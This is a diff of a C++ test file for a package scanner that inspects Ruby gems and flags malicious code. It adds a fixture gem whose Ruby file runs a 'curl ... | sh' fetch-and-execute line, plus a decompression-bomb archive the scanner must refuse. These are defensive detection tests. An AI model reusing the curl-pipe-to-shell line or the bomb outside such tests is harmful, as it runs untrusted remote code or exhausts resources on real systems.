@@ -713,23 +713,52 @@ TEST(Postmortem, a_crate_lands_under_src_where_postmortem_reads_rust) {
   for (const std::string& f : tree) EXPECT_FALSE(f.starts_with("vendor/")) << f;
 }
 
-TEST(Postmortem, a_gem_lands_at_its_layout_dir_and_its_data_tar_gz_is_not_descended) {
-  // A .gem is a plain tar: metadata.gz, data.tar.gz, checksums.yaml.gz. Upstream extracted
-  // data.tar.gz in the worker; nothing extracts it here (no wire feature for a nested
-  // archive yet), so postmortem sees the inner archive as a file.
-  const std::string data = t::make_tgz({t::file("lib/evil.rb", "system('curl http://203.0.113.9 | sh')\n")});
+TEST(Postmortem, a_gems_data_tar_gz_is_descended_in_place_and_its_ruby_reaches_the_scanner) {
+  // A .gem is a plain tar: metadata.gz, data.tar.gz, checksums.yaml.gz. The plan names
+  // data.tar.gz for the agent to extract in place (wire 2), as upstream's materialise did;
+  // postmortem walks the project root for Ruby (vendor/ included).
+  const std::string data =
+      t::make_tgz({t::dir("lib/"), t::file("lib/evil.rb", "system('curl http://127.0.0.1:9/x | sh')\n"),
+                   t::file("evil.gemspec", "Gem::Specification.new\n")});
   const std::string gem = t::make_tar({t::file("metadata.gz", "meta"), t::file("data.tar.gz", data),
                                        t::file("checksums.yaml.gz", "sums")});
   PostmortemScanner s(fake_opts(false));
-  auto plan = s.plan(input(PackageKind::kRubygems, "evil", "0.1.0", gem));
+  auto in = input(PackageKind::kRubygems, "evil", "0.1.0", gem);
+  auto plan = s.plan(in);
   ASSERT_TRUE(plan);
+  const auto& archive = (*plan)[0].bundle.entries[0];
+  ASSERT_TRUE(archive.descend);
+  EXPECT_EQ(archive.descend->str(), "data.tar.gz");
+  for (PackageKind k : {PackageKind::kNpm, PackageKind::kPypi, PackageKind::kCargo, PackageKind::kComposer,
+                        PackageKind::kGoproxy, PackageKind::kMaven}) {
+    EXPECT_FALSE(s.plan(input(k, "x", "1.0.0"))->front().bundle.entries[0].descend) << core::to_string(k);
+  }
+
   auto rt = none_runtime();
   std::vector<std::string> tree = tree_seen(rt->run((*plan)[0]));
-  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/data.tar.gz")) << ::testing::PrintToString(tree);
+  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/lib/evil.rb")) << ::testing::PrintToString(tree);
+  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/evil.gemspec"));
   EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/metadata.gz"));
-  EXPECT_FALSE(contains(tree, "vendor/bundle/gems/evil-0.1.0/lib/evil.rb")) << "not descended (see postmortem.cc)";
+  EXPECT_FALSE(contains(tree, "vendor/bundle/gems/evil-0.1.0/data.tar.gz")) << "extracted in its place, removed";
   EXPECT_TRUE(contains(tree, "Gemfile.lock"));
   EXPECT_TRUE(contains(tree, "Gemfile"));
+
+  // End to end: the curl in lib/evil.rb is a finding (zero before: the gem gave none).
+  auto findings = core::scan_with(s, *rt, in);
+  ASSERT_TRUE(findings) << findings.error().message;
+  ASSERT_EQ(findings->size(), 1u);
+  EXPECT_EQ((*findings)[0].summary, "mentions curl (evil-0.1.0/lib/evil.rb)");
+
+  // A bomb inside data.tar.gz is the agent's refusal, a scanner error (Output), not a scan.
+  const std::string bomb =
+      t::make_tar({t::file("metadata.gz", "meta"),
+                   t::file("data.tar.gz", t::make_tgz({t::file("lib/z.rb", std::string(4 << 20, '\0'))}))});
+  auto refused = core::scan_with(s, *rt, input(PackageKind::kRubygems, "evil", "0.1.0", bomb));
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().kind, ScannerError::Kind::kOutput);
+  EXPECT_NE(refused.error().message.find("in 'data.tar.gz': archive decompression ratio exceeds 100:1"),
+            std::string::npos)
+      << refused.error().message;
 }
 
 TEST(Postmortem, the_fake_postmortem_flags_a_curl_postinstall_end_to_end_through_scan_with) {
